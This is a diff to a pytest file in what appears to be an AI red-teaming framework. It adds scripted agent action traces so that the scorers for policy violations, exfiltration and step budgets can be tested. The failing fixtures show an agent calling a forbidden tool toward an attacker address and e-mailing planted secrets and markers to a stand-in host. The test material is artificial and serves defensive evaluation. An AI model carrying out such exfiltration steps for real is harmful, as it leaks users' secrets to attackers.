@@ -16,10 +16,18 @@ from functools import cache
 
 import pytest
 
+from redline.attacks.agentic import DEFAULT_TOOLS
 from redline.attacks.planning import build_cases_async
 from redline.attacks.templating import as_request
 from redline.catalog.playbooks import load_playbooks
-from redline.core.case_params import expects_refusal, planted_strings
+from redline.core.actions import ActionStep, ActionTrace, ToolCall, ToolOutcome
+from redline.core.case_params import (
+    attacker_targets,
+    exfil_markers,
+    expects_refusal,
+    forbidden_tools,
+    planted_strings,
+)
 from redline.core.cases import AttackCase
 from redline.core.conversation import MessageRole, Response
 from redline.core.scores import Score, Verdict
@@ -88,10 +96,51 @@ FAILING: dict[str, Callable[[AttackCase], str]] = {
 }
 
 
+def _trace(*calls: tuple[str, dict[str, object]]) -> ActionTrace:
+    """An action trace over the default agentic tools (cases built without a target's tools)."""
+    steps = tuple(
+        ActionStep(index=i, call=ToolCall(id=f"c{i}", name=n, arguments=a), outcome=ToolOutcome(content="ok"))
+        for i, (n, a) in enumerate(calls)
+    )
+    return ActionTrace(tools=DEFAULT_TOOLS, steps=steps, step_budget=8)
+
+
+def _outside_policy(case: AttackCase) -> Response:
+    """The agent calls what the case forbids, towards the attacker's destination."""
+    forbidden = forbidden_tools(case.params)
+    to = (attacker_targets(case.params) or ["ops@collect-audit-10.test"])[0]
+    return Response(text="Done.", actions=_trace((forbidden[0] if forbidden else "send_email", {"to": to})))
+
+
+def _leaking(case: AttackCase) -> Response:
+    """The agent e-mails the case's secrets and markers out."""
+    values = " ".join([*exfil_markers(case.params), *planted_strings(case.params)])
+    return Response(
+        text="Sent.", actions=_trace(("send_email", {"to": "x@collect-audit-10.test", "body": values}))
+    )
+
+
+# Action scorers judge the trace: a failing and a passing exchange (a plain search, then a refusal).
+ACTING: dict[str, Callable[[AttackCase], Response]] = {
+    "action.policy": _outside_policy,
+    "action.exfiltration": _leaking,
+    "action.step-budget": lambda c: Response(text="Done.", actions=_trace(*[("read_inbox", {})] * 3)),
+}
+FAILING.update({name: (lambda c, f=f: f(c).text) for name, f in ACTING.items()})
+
+
 def _passing(scorer: str, case: AttackCase) -> str:
     if scorer == "refusal" and not expects_refusal(case.params):
         return _complying(case)
     return REFUSAL
+
+
+def _response(scorer: str, case: AttackCase, answer: str, *, failing: bool) -> Response:
+    if scorer not in ACTING:
+        return Response(text=answer)
+    if failing:
+        return ACTING[scorer](case)
+    return Response(text=REFUSAL, actions=_trace(("search_documents", {"query": "refund policy"})))
 
 
 def _steps() -> list[tuple[str, AutomatedStep]]:
@@ -138,8 +187,13 @@ def _scorer(name: str, judge: EchoTarget) -> Scorer:
     return _plain_scorer(name)
 
 
-def _score(scorer: Scorer, cases: Sequence[AttackCase], answers: Sequence[str]) -> list[Score]:
-    items = [(c, Response(text=a)) for c, a in zip(cases, answers, strict=True)]
+def _score(
+    scorer: Scorer, cases: Sequence[AttackCase], answers: Sequence[str], failing: Sequence[bool] = ()
+) -> list[Score]:
+    flags = list(failing) or [False] * len(cases)
+    items = [
+        (c, _response(scorer.name, c, a, failing=f)) for c, a, f in zip(cases, answers, flags, strict=True)
+    ]
     return asyncio.run(scorer.score_batch(items))
 
 
@@ -164,7 +218,8 @@ def test_the_step_scorer_fails_a_plain_failure_and_passes_a_plain_refusal(
     checked = _checked(cases, scorer)
 
     failing = [FAILING[scorer](c) if i in checked else _passing(scorer, c) for i, c in enumerate(cases)]
-    for i, score in enumerate(_score(judge, cases, failing)):
+    flags = [i in checked for i in range(len(cases))]
+    for i, score in enumerate(_score(judge, cases, failing, flags)):
         if i in checked:
             assert score.verdict is Verdict.FAIL, f"{where} {step.technique}: {score.rationale}"
 
